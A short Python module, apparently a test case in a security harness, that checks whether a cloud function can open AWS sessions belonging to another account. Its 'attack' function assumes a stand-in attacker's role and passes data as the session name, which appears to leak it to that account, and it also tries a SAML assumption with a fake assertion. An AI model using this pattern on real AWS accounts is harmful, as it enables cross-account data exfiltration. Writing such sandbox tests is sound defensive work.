"""C03: sessions that outlive the environment, or belong to another account."""

from letters import Keys


def attack(hands):
    text = hands.plain()
    theirs = "arn:aws:iam::999999999999:role/attackers-role"
    hands.call("sts", "AssumeRole", RoleArn=theirs, RoleSessionName=text)
    named = {"RoleArn": own(hands), "PrincipalArn": f"arn:aws:iam::{hands.account}:saml-provider/{text}"}
    hands.call("sts", "AssumeRoleWithSAML", SAMLAssertion="YXR0YWNrZXJz", **named)


def twin(hands):
    """A session of the stack's own role, which does what the function may do."""
    given = hands.call("sts", "AssumeRole", RoleArn=own(hands), RoleSessionName="honest")
    keys = Keys(*(given.field(name) for name in ("AccessKeyId", "SecretAccessKey", "SessionToken")))
    hands.call("s3", "PutObject", keys, Bucket="kept-files", Key=hands.trial, Body=hands.secret().encode())


def own(hands):
    return f"arn:aws:iam::{hands.account}:role/kept-role"
